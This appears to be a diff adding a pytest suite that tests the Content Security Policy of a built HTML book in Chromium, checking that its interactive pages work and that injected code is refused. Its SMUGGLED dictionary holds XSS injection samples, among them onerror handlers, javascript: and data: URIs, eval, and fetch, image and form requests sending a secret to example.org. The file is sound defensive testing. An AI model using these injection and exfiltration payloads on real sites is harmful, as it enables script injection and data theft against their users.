@@ -1,0 +1,193 @@
+"""The book's content security policy: all that the pages bring works under it, and what
+is smuggled into them doesn't run. Build the book first: make book.
+"""
+
+import json
+from collections.abc import Iterator
+
+import pytest
+from browser import BOOK, CHROMIUM, Browser
+
+PAGES = [
+    path
+    for path in sorted(BOOK.rglob("*.html"))
+    if "_static" not in path.relative_to(BOOK).parts
+]
+pytestmark = pytest.mark.skipif(
+    not PAGES, reason="the book is not built: run make book"
+)
+needs_chromium = pytest.mark.skipif(not CHROMIUM, reason="no Chromium is installed")
+
+# Keeps what a page's policy refuses: the rule, and the address or the code.
+WATCH = """
+window.refused = [];
+addEventListener("securitypolicyviolation", (event) => refused.push(
+  [event.effectiveDirective, event.blockedURI, event.sample]));
+"""
+
+
+@pytest.fixture(params=["file", "server"])
+def book(request, served: str) -> str:
+    """The book's address, on the disk and on a server."""
+    return f"{BOOK.as_uri()}/" if request.param == "file" else served
+
+
+@pytest.fixture(scope="module")
+def watched() -> Iterator[Browser]:
+    """A window whose pages keep what their policies refuse."""
+    with Browser() as window:
+        window.call("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
+        yield window
+
+
+def refused(window: Browser) -> list[str]:
+    """What was refused, by the page's own word and the console's."""
+    said = [each for each in window.errors if "Content Security Policy" in each]
+    window.errors = []
+    return said + [str(each) for each in window.run("refused")]
+
+
+def rules(page: str) -> dict[str, list[str]]:
+    """The sources by rule, of a page that must have exactly one policy."""
+    before, policy, after = page.partition("Content-Security-Policy")
+    assert policy and "http-equiv" not in after
+    assert not {"<script", "<link", "<style"} & {*before.lower().split()}
+    words = after.split('content="', 1)[1].split('"', 1)[0]
+    return {name: sources for name, *sources in map(str.split, words.split(";"))}
+
+
+@pytest.mark.parametrize("path", PAGES, ids=lambda path: str(path.relative_to(BOOK)))
+def test_each_page_has_a_tight_policy_before_all_that_it_loads(path):
+    found = rules(path.read_text(encoding="utf-8"))
+    assert found["default-src"] == found["base-uri"] == ["'none'"]
+    ours = {"'self'", "file:", "'unsafe-hashes'"}
+    scripts = [each for each in found["script-src"] if each not in ours]
+    assert scripts and all(each.startswith("'sha256-") for each in scripts)
+    live = path.relative_to(BOOK).as_posix() in {"index.html", "live.html"}
+    assert ("worker-src" in found) == live
+    assert ("connect-src" in found) == (live or path.name == "search.html")
+
+
+# -- what works ------------------------------------------------------------------------
+
+
+@needs_chromium
+@pytest.mark.parametrize("page", ["index", "live"])
+def test_the_cover_and_the_live_page_translate(page, book, watched):
+    watched.open(f"{book}{page}.html")
+    ask = "I don't know where she lives."
+    watched.run(f"document.getElementById('live-source').value = {json.dumps(ask)}")
+    watched.run("document.getElementById('live-form').requestSubmit()")
+    watched.wait(
+        "/ms for each/.test(document.getElementById('live-status').textContent)"
+    )
+    answer = "document.getElementById('live-output').textContent"
+    assert watched.run(answer) == "Ich weiß nicht, wo sie wohnt."
+    assert refused(watched) == []
+
+
+@needs_chromium
+def test_a_reader_may_edit_the_worker(book, watched):
+    watched.open(f"{book}live.html")
+    watched.run("document.getElementById('live-edit').click()")
+    watched.wait("document.getElementById('live-code').value !== ''")
+    watched.run("document.getElementById('live-code-run').click()")
+    status = "document.getElementById('live-code-status').textContent"
+    watched.wait(f"!/Running …/.test({status})")
+    assert "Running your code" in watched.run(status)
+    assert refused(watched) == []
+
+
+@needs_chromium
+def test_a_chart_answers_to_the_hand(book, watched):
+    watched.open(f"{book}model/attention.html")
+    watched.run("document.querySelector('.vega-chart').scrollIntoView()")
+    watched.wait("document.querySelectorAll('.vega-chart svg path').length > 8")
+    drawn = "document.querySelector('.vega-chart svg').innerHTML"
+    before = watched.run(drawn)
+    watched.run("document.querySelector('.vega-chart [value=\"1024\"]').click()")
+    watched.wait(f"{drawn} !== {json.dumps(before)}")
+    assert refused(watched) == []
+
+
+@needs_chromium
+def test_a_prediction_is_answered_and_a_part_touched(book, watched):
+    watched.open(f"{book}model/attention.html")
+    watched.run("document.querySelector('.predict [value=\"3\"]').click()")
+    watched.run("document.querySelector('.predict button').click()")
+    verdict = "document.querySelector('.predict .verdict').textContent"
+    assert watched.run(verdict).startswith("✓ Right.")
+    watched.run("document.querySelector('.touch').scrollIntoView()")
+    watched.wait("!!document.querySelector('.touch .told')?.textContent")
+    assert refused(watched) == []
+
+
+@needs_chromium
+def test_a_search_is_answered(book, watched):
+    watched.open(f"{book}search.html")
+    watched.submit("causal mask")
+    watched.wait("document.querySelectorAll('#search-results li > a').length > 0")
+    if book.startswith("http"):
+        watched.wait("!!document.querySelector('#search-results p.context')")
+    assert refused(watched) == []
+
+
+@needs_chromium
+def test_the_themes_buttons_work(book, watched):
+    watched.open(f"{book}glossary.html")
+    watched.run("window.print = () => { window.printed = true; }")
+    theme = "document.documentElement.dataset.mode"
+    before = watched.run(theme)
+    for button in ("[onclick='window.print()']", ".theme-switch-button"):
+        watched.run(f'document.querySelector("{button}").click()')
+    assert watched.run("window.printed") and watched.run(theme) != before
+    assert refused(watched) == []
+
+
+@needs_chromium
+@pytest.mark.parametrize("path", PAGES, ids=lambda path: str(path.relative_to(BOOK)))
+def test_no_page_brings_what_its_policy_refuses(path, watched):
+    if path.name == "404.html":
+        pytest.skip("it knows its files by the server's address alone")
+    watched.open(path.as_uri())
+    watched.run(
+        "document.querySelectorAll('.touch, .vega-chart').forEach("
+        "(part) => part.scrollIntoView())"
+    )
+    assert refused(watched) == []
+
+
+# -- what doesn't ----------------------------------------------------------------------
+
+SMUGGLED = {
+    "handler": 'document.body.innerHTML += \'<img src="x:" onerror="HIT">\'',
+    "script": "document.body.append(Object.assign(document.createElement('script'),"
+    " { textContent: 'HIT' }))",
+    "address": "document.body.append(Object.assign(document.createElement('a'),"
+    " { href: 'javascript:HIT', id: 'smuggled' })); smuggled.click()",
+    "data": "document.body.append(Object.assign(document.createElement('script'),"
+    " { src: 'data:text/javascript,HIT' }))",
+    "stranger": "document.body.append(Object.assign(document.createElement('script'),"
+    " { src: 'https://example.org/' }))",
+    "text": "setTimeout('HIT')",
+    "evaluated": "setTimeout(() => eval('HIT'))",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'),"
+    " { src: 'data:text/html,<script>HIT</script>' }))",
+    "sent": "fetch('https://example.org/?secret').catch(() => {})",
+    "picture": "new Image().src = 'https://example.org/?secret'",
+    "form": "document.body.append(Object.assign(document.createElement('form'),"
+    " { action: 'https://example.org/', id: 'smuggled' })); smuggled.submit()",
+}
+
+
+@needs_chromium
+@pytest.mark.parametrize("page", ["live", "model/attention"])
+def test_what_is_smuggled_in_is_refused(page, book, watched):
+    for way, code in SMUGGLED.items():
+        watched.open("about:blank")
+        watched.errors = []
+        watched.open(f"{book}{page}.html")
+        watched.run(f"{code.replace('HIT', 'window.hit = 1')}; 0")
+        watched.wait("refused.length > 0 || window.hit === 1", 5)
+        assert watched.run("window.hit") is None, way
+        assert refused(watched) != [], way
